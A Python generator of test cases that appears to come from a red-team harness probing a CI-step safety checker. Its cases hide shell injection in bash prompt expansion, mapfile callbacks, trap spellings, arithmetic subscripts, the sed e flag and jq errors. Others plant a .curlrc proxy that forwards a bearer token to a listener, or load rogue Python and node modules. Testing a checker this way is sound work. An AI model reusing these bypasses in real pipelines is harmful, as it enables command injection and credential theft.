# Round thirty-seven attacks (exec'd by gen_attacks.py; uses A, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), J(desc))
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
import base64, io, tarfile

PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee -a /tmp/harbor-r37-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
# the same in a bash arithmetic subscript, with no blank (for consumers that split at blanks)
ARITH1 = "x[$(echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r37-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2)]" % PW
ARITHB = "x[$(%s >&2)]" % SHP
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
DBSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
STUB = "#!/bin/sh\n" + SHP + "\n"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def tgz(files):
    """a .tar.gz (base64) of {name: (mode, text)}"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, (mode, body) in files.items():
            data = body.encode()
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


ATT_TXT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536}
ATT_JSON = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 65536}
ATT_TGZ = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/gzip", "max_bytes": 1048576}
REPO = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
        "description": "repository path on the company git server, e.g. team/app.git"}
GITREDIR = "go/127.0.0.1/18765/team/app.git"          # the author's server redirects /go/HOST/PORT/… there




CURLRC = 'proxy = "http://127.0.0.1:18765"\n'
PYJSON = "import os\nos.system('%s')\n" % SHP.replace("'", "\\'")
NAME = {"type": "string", "pattern": "^[A-Za-z0-9._]{1,40}$", "description": "file name of the snippet"}

# ================================================================== round 37 attacks
TXT = {"type": "string", "maxLength": 300}
PAY = "x[$(%s >&2)]" % SHP                         # a caller's text that bash arithmetic runs
R36_TEXT = ("Round 36: a name that the text of eval, source or trap assigns holds any text; a command word is read as "
            "bash reads it (\\trap and 'trap' are trap). ")

# ---------------------------------------------------------------- text that bash runs later, not eval/source/trap
R("banner-prompt-escapes", "prompt-expansion",
  "Print the deploy banner; the title may use bash prompt escapes such as \\u, \\h, \\D{%F} and \\t.",
  {"title": dict(TXT, description="banner title, e.g. 'Deploy by \\u on \\h at \\t'")},
  'printf \'%s\\n\' "${ARG_title@P}"\necho "banner=done" >> "$HARBOR_STEP_OUTPUT"',
  {"title": "Deploy $(%s) by \\u" % SHP},
  "The value reaches printf quoted, as data. But ${v@P} expands the value as a prompt string, and bash's "
  "promptvars (on by default) makes prompt expansion run command substitutions: the caller's $(...) runs. No note "
  "names the @P transformation; round 36 lists eval, source and trap as the texts bash runs.")

R("mapfile-callback-text", "text-run-callback",
  "Load the application log and say whether it is longer than the caller's limit.",
  {"limit": dict(TXT, description="line limit, e.g. 500")},
  '''
  n=$(wc -l < logs/app.log)
  limit=1000
  mapfile -t -C 'limit=${ARG_limit:-$limit}; :' -c 1 lines < logs/app.log
  if (( n > limit )); then echo "log too long: $n lines"; else echo "log ok: ${#lines[@]} lines"; fi
  ''',
  {"limit": PAY},
  R36_TEXT + "mapfile's -C callback is a text bash evaluates for each chunk of lines (with the index and line "
  "appended as words), like a trap action; it assigns limit the caller's text. n is a wc -l count and limit is the "
  "author's 1000 by every assignment the checker reads, so (( n > limit )) looks like numbers; bash reads limit's "
  "value as an expression and runs the subscript.")

for _i, (_word, _cls, _note) in enumerate([
        ("builtin trap", "trap-builtin-spelling", "`builtin trap` runs the trap builtin; the command word is `builtin`, and its first operand names the builtin."),
        ("command trap", "trap-builtin-spelling", "`command trap` runs the trap builtin (command only skips functions); the command word is `command`."),
        ("$'trap'", "trap-ansi-c-spelling", "$'trap' is ANSI-C quoting: quote removal gives `trap`; the note names \\trap and 'trap', not $'...'.")]):
    R(["orders-note-builtin-trap", "orders-note-command-trap", "orders-note-ansi-trap"][_i], _cls,
      "Report whether there are many orders, logging the caller's note.",
      {"note": dict(TXT, description="a note for the log")},
      '''
      n=$(jq '.orders | length' data/orders.json)
      %s 'n=${ARG_note:-$n}' DEBUG
      printf 'note: %%s\\n' "$ARG_note" >&2
      if (( n > 5 )); then echo "many orders: $n"; else echo "few orders"; fi
      ''' % _word,
      {"note": PAY},
      R36_TEXT + _note + " Its DEBUG action sets n to the caller's note before each command; n is a jq count of "
      "the author's file (a number) for a checker that does not read this word as trap, so (( n > 5 )) runs it.")

# ---------------------------------------------------------------- step env: writable places under other names
R36_PATH = ("Round 36 reads a path with doubled slashes and /./ collapsed; round 35 refuses an env: value naming the run "
            "directory, /tmp, /dev/shm or home. ")
X("curl-xdg-proc-root-shm", "step-env-proc-root",
  "Store a client-settings snippet in shared memory, then list the orders with the shared settings.",
  {"name": NAME, "snippet": ATT_TXT},
  [("save", 'mkdir -p /dev/shm/r37-app/curl\ncp -- "$ARG_snippet" "/dev/shm/r37-app/curl/$ARG_name"', None),
   ("fetch", 'curl -fsS -H "Authorization: Bearer $API_TOKEN" http://127.0.0.1:18766/api/orders',
    {"env": {"XDG_CONFIG_HOME": "/proc/self/root/dev/shm/r37-app/curl"}})],
  {"name": ".curlrc", "snippet": b64(CURLRC)},
  R36_PATH + "/proc/self/root/dev/shm/... collapses to itself (no doubled slash, no /./) and names /dev/shm only "
  "through the process's root link. curl reads $XDG_CONFIG_HOME/.curlrc: the caller's proxy line sends the request "
  "and its Authorization header to the caller's listener.", head=SEC)

X("pythonpath-run-shm-link", "step-env-symlinked-place",
  "Store a plugin module in shared memory, then count the users with the plugins importable.",
  {"name": NAME, "plugin": ATT_TXT},
  [("save", 'mkdir -p /dev/shm/r37-app/pylib\ncp -- "$ARG_plugin" "/dev/shm/r37-app/pylib/$ARG_name"', None),
   ("count", "python3 -c 'import json; print(len(json.load(open(\"data/users.json\"))))'",
    {"env": {"PYTHONPATH": "/run/shm/r37-app/pylib"}})],
  {"name": "json.py", "plugin": b64(PYJSON)},
  R36_PATH + "/run/shm is Debian's symlink to /dev/shm (present on this host); its text is not /dev/shm after "
  "collapsing slashes. python3 imports the caller's json.py from it.")

X("curl-home-relative", "step-env-relative-folder",
  "Keep a client-settings snippet next to the checkout, then check the API status with it.",
  {"name": NAME, "snippet": ATT_TXT},
  [("save", 'mkdir -p .cache/curl\ncp -- "$ARG_snippet" ".cache/curl/$ARG_name"', None),
   ("status", 'curl -fsS -H "Authorization: Bearer $API_TOKEN" http://127.0.0.1:18766/api/status',
    {"env": {"CURL_HOME": ".cache/curl"}})],
  {"name": ".curlrc", "snippet": b64(CURLRC)},
  "Round 35 requires absolute entries only in lists of folders (PATH, ...PATH, ...LIB); CURL_HOME is one folder, "
  "and its relative value names none of the four places by text. It is the working folder's .cache/curl, which "
  "the save step filled; curl reads CURL_HOME/.curlrc and its proxy line sends the Authorization header to the "
  "caller's listener.", head=SEC)

# ---------------------------------------------------------------- sed: where a command starts
R35_SED = "Round 35: sed's s command is found only where a command starts. "
for _n, (_prog, _note) in enumerate([
        ("/./ s/^/echo greeting: /ep", "GNU sed allows blanks between an address and its command."),
        ("/./Is/^/echo greeting: /ep", "GNU sed's I flag after a regex address (case-insensitive), then s at once."),
        ("\\%.%s%^%echo greeting: %ep", "a \\%regex% address with its own delimiter, then s with % as delimiter.")]):
    R(["sed-s-after-blank", "sed-s-after-I-flag", "sed-s-custom-delim"][_n], "sed-s-e-flag",
      "Greet the caller by name in the log.",
      {"who": dict(TXT, description="who to greet")},
      "printf '%%s\\n' \"$ARG_who\" | sed -n '%s'" % _prog,
      {"who": "team; " + SHP},
      R35_SED + _note + " The s command's e flag runs the pattern space (the caller's line after 'echo greeting: ') "
      "as a shell command; a reader that does not see s start there sees no e.")

# ---------------------------------------------------------------- jq errors joined other ways
HALT = ("[.orders[] | select(.status == $st)] | length | if . == 0 then ($st + \": no orders in that state\\n\" "
        "| halt_error(0)) else . end")
for _n, (_redir, _note) in enumerate([
        ("|& cat", "|& is 2>&1 | (bash's shorthand); no note lists it."),
        ("2>|/dev/stdout", ">| is the noclobber-overriding redirection; the note lists 2>/dev/stdout, not 2>|.")]):
    R(["jq-pipe-amp", "jq-clobber-stdout"][_n], "jq-stderr-joined",
      "Say whether there are many orders in the caller's state.",
      {"state": dict(TXT, description="order state, e.g. open")},
      "n=$(jq --arg st \"$ARG_state\" '%s' data/orders.json %s)\nif (( n > 2 )); then echo \"many $ARG_state orders\"; else echo \"few\"; fi" % (HALT, _redir),
      {"state": PAY},
      "Round 32/35/36: what jq prints without -r is JSON text, inert in arithmetic, unless its errors join the "
      "output. " + _note + " halt_error prints the caller's --arg raw to stderr, which joins n; bash reads "
      "x[$(...)] and runs it.")

# ---------------------------------------------------------------- associative arrays
R("assoc-local-at-start", "assoc-scope",
  "Count the log lines since the caller's start time and record when the count began.",
  {"since": dict(TXT, description="start time, e.g. 2024-01-15T10:00")},
  '''
  start="$ARG_since"
  mark() {
    declare -A at
    at[start]=$(date +%s)
  }
  mark
  grep -c -F -- "$start" logs/app.log || true
  if (( at[start] > 0 )); then echo "timing recorded"; else echo "no timing"; fi
  ''',
  {"since": PAY},
  "Round 35: at[start] in arithmetic of an associative array is the key start. at is declared associative only "
  "inside mark(), where declare makes it local; after mark returns there is no at, so bash reads at[start] as an "
  "indexed array whose subscript is the expression start, whose value (the caller's text) it evaluates.")

R("assoc-keys-nameref", "assoc-keys-nameref",
  "List the severity levels above 8, with a custom one named by the caller.",
  {"level": dict(TXT, description="custom level name")},
  '''
  declare -A f=([2]=warn [16]=error)
  declare -n lv=f
  lv[$ARG_level]=custom
  for b in "${!f[@]}"; do
    if (( b > 8 )); then echo "level $b: ${f[$b]}"; fi
  done
  ''',
  {"level": PAY},
  "Round 35: for b in \"${!f[@]}\" of an associative array written only as declare -A f=([2]=A [16]=B) gives its "
  "literal keys. f is written only that way under its own name; lv is a name reference to it, and lv[KEY]= adds "
  "the caller's key to f. (( b > 8 )) evaluates the key as an expression.")

# ---------------------------------------------------------------- names bash evaluates
R("test-v-setting", "test-v-subscript",
  "Say whether a shell setting is defined in the step.",
  {"setting": dict(TXT, description="a variable name, e.g. HOME")},
  'if test -v "$ARG_setting"; then echo "set"; else echo "unset"; fi',
  {"setting": PAY},
  "The value is one quoted word to test. But test -v NAME with a subscript (x[...]) evaluates the subscript as "
  "arithmetic for an indexed array: the command substitution runs.")

R("declare-int-cluster", "integer-attribute-cluster",
  "Show the first lines of the app log, up to the caller's count.",
  {"count": dict(TXT, description="how many lines, e.g. 20")},
  'declare -ir cap="$ARG_count"\nhead -n "$(( cap > 0 && cap < 500 ? cap : 20 ))" logs/app.log',
  {"count": PAY},
  "Round 21 refuses declare -i with a loop word. -ir is a cluster of -i (integer) and -r: the assignment of the "
  "caller's text is evaluated as arithmetic at once.")

R("rematch-subshell-test", "rematch-subshell",
  "Show a release's notes when the caller's build year is recent.",
  {"ref": dict(TXT, description="release ref, e.g. release/1.4"), "year": dict(TXT, description="build year, e.g. 2025")},
  '''
  if [[ $ARG_ref =~ ^release/(.+)$ ]]; then rel=${BASH_REMATCH[1]}; else rel=1.4.2; fi
  if ( [[ $ARG_year =~ ^(20[0-9]{2})$ ]] ); then
    if (( BASH_REMATCH[1] >= 2024 )); then echo "recent build of $rel"; fi
  fi
  ''',
  {"ref": "release/" + PAY, "year": "2025"},
  "Round 35: a BASH_REMATCH group of digit ranges ((20[0-9]{2})) is digits after a test that held. The test ran "
  "in a subshell, so the script's BASH_REMATCH is still the first match's, whose group 1 is the caller's text.")

# ---------------------------------------------------------------- node: a module path by a computed name
X("node-formatter-require", "node-computed-require",
  "Store a formatter module in shared memory, then print the users with the caller's formatter.",
  {"name": NAME, "plugin": ATT_TXT,
   "style": {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$", "description": "formatter name, e.g. table"}},
  [("save", 'mkdir -p /dev/shm/r37-app/fmt\ncp -- "$ARG_plugin" "/dev/shm/r37-app/fmt/$ARG_name"', None),
   ("show", '''node -e '
const fmt = require("./lib/formatters/" + process.argv[1]);
const users = require("./data/users.json");
console.log(fmt(users));
' "$ARG_style"''', None)],
  {"name": "x.js", "style": "../../../../../../../../../dev/shm/r37-app/fmt/x.js",
   "plugin": b64("require('child_process').execSync('%s', {stdio: 'inherit'});\nmodule.exports = u => JSON.stringify(u);\n" % SHP)},
  "Round 35 lists node programs that reach the global object, process or this by a computed name, or use Reflect "
  "or module. This one reaches none: it passes a computed string to require(), which loads and runs the module it "
  "names; ../ climbs out of ./lib/formatters to the caller's file.")
